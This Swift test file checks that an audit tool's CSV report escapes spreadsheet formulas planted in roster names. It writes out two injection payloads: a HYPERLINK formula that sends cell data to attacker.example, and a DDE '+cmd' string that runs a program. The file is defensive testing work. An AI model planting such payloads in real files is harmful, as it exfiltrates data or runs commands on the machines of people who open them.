import Foundation
import Testing

/// REPORTS §5 through a whole audit: roster names planted with formulas reach the CSV report
/// as text a spreadsheet will not run.
struct FormulaInjectionTests {
    static let hyperlink = "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"点击查看\")"
    static let command = "+cmd|' /C calc'!A0"

    /// The demo with practitioner P002's name and office SO03's name replaced by formulas.
    private func plantedDemo(_ scratch: Scratch) throws -> String {
        let data = try scratch.demoData()
        for (file, from, to) in [("practitioners.csv", "P002,李秀英,", "P002,\"\(Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\""))\","),
                                 ("offices.csv", "SO03,开发区法律服务所,", "SO03,\(Self.command),")] {
            let path = data + "/" + file
            let text = try String(contentsOfFile: path, encoding: .utf8)
            #expect(text.contains(from))
            try text.replacingOccurrences(of: from, with: to).write(toFile: path, atomically: true, encoding: .utf8)
        }
        return data
    }

    @Test func plantedFormulasAreWrittenAsText() throws {
        let scratch = try Scratch()
        defer { scratch.remove() }
        let data = try plantedDemo(scratch)
        let r = try DudaoBinary.run(["audit", "--data", data, "--as-of", "2023-04-30", "--format", "csv",
                                     "--output", scratch.path("r.csv")])
        #expect(r.code == 1)
        let csv = try #require(scratch.read("r.csv"))
        let quotedLink = "\"'" + Self.hyperlink.replacingOccurrences(of: "\"", with: "\"\"")
        #expect(csv.contains(",\(quotedLink)\","), "the name cell")
        #expect(csv.contains(",\(quotedLink)（P002）"), "the message that begins with the name")
        #expect(csv.contains(",'\(Self.command),"))
        // No field anywhere begins with a live formula character.
        for line in csv.split(separator: "\r\n") {
            #expect(!line.contains(",=") && !line.contains(",\"=") && !line.contains(",+cmd"), "\(line)")
        }
    }
}
